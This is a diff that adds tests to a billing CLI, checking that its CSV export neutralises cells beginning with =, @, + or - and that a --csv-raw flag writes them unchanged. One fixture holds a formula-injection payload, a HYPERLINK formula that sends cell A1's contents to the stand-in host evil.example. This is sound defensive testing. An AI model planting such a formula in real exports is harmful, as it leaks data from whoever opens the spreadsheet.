@@ -78,6 +78,58 @@ describe('--all -o ndjson and -o csv write what the gathered list would', () => 
   });
 });
 
+describe('CSV a spreadsheet can open safely', () => {
+  const HOSTILE = { first_name: '=HYPERLINK("http://evil.example/?"&A1,"click")', last_name: '@SUM(1)', email: 'h@example.com', telephone: '+31612345678', city: '-2+3' };
+  const FIELDS = ['--fields', 'customer=first_name,last_name,city,telephone'];
+  const ESCAPED = `id,first_name,last_name,city,telephone\r\n1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1),'-2+3,'+31612345678\r\n`;
+  const RAW = `id,first_name,last_name,city,telephone\r\n1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1),-2+3,+31612345678\r\n`;
+
+  async function hostile(): Promise<Cli> {
+    const c = cli();
+    await c.withTransport(async (t) => {
+      const answer = await t.request({ method: 'POST', path: '/customers', body: { data: { type: 'customer', attributes: HOSTILE } } });
+      expect(answer.status).toBe(201);
+    });
+    return c;
+  }
+
+  it("-o csv of a page, of one resource and --all: a formula gets a leading ', the same in each", async () => {
+    const c = await hostile();
+    expect(await c.run(['customers', 'list', '-o', 'csv', ...FIELDS])).toEqual({ code: 0, stdout: ESCAPED, stderr: '' });
+    expect(await c.run(['customers', 'list', '--all', '-o', 'csv', ...FIELDS])).toEqual({ code: 0, stdout: ESCAPED, stderr: '' });
+    expect(await c.run(['customers', 'list', '--all', '--page-size', '1', '-o', 'csv', ...FIELDS])).toEqual({ code: 0, stdout: ESCAPED, stderr: '' });
+    expect((await c.run(['customers', 'get', '1', '-o', 'csv', ...FIELDS])).stdout).toBe(ESCAPED);
+  });
+
+  it('--csv-raw, before or after the command, writes the cells as they are', async () => {
+    const c = await hostile();
+    for (const argv of [
+      ['--csv-raw', 'customers', 'list', '-o', 'csv', ...FIELDS],
+      ['customers', 'list', '-o', 'csv', ...FIELDS, '--csv-raw'],
+      ['customers', 'list', '--all', '-o', 'csv', '--csv-raw', ...FIELDS],
+      ['--csv-raw', 'customers', 'get', '1', '-o', 'csv', ...FIELDS],
+    ]) {
+      expect(await c.run(argv), argv.join(' ')).toEqual({ code: 0, stdout: RAW, stderr: '' });
+    }
+  });
+
+  it('leaves negative amounts numbers: the lines of an invoice with a discount', async () => {
+    const c = cli();
+    await c.seedCustomers(1);
+    const made = async (argv: string[]) => {
+      const result = await c.run([...argv, '-q', '-o', 'ndjson']);
+      expect(result.code, result.stderr).toBe(0);
+      return JSON.parse(result.stdout).id as string;
+    };
+    await made(['plans', 'create', '--name', 'Gold', '--amount', '12.50']);
+    const subscription = await made(['subscriptions', 'create', '--customer-id', '1', '--subscription-plan-id', '1']);
+    const invoice = await made(['invoices', 'create', '--subscription-id', subscription]);
+    await made(['lines', 'create', '--invoice-id', invoice, '--description', '-5% loyalty', '--amount', '-12,50', '--tax-rate', '21']);
+    const lines = await c.run(['invoices', 'lines', invoice, '-o', 'csv', '--fields', 'invoice-line=description,amount_excl,tax_amount']);
+    expect(lines.stdout).toBe("id,description,amount_excl,tax_amount\r\n1,'-5% loyalty,-12.50,-2.63\r\n");
+  });
+});
+
 describe('--after ID', () => {
   it('lists only what follows the id, in id order: an export resumed is the rest of the whole one', async () => {
     const c = cli();
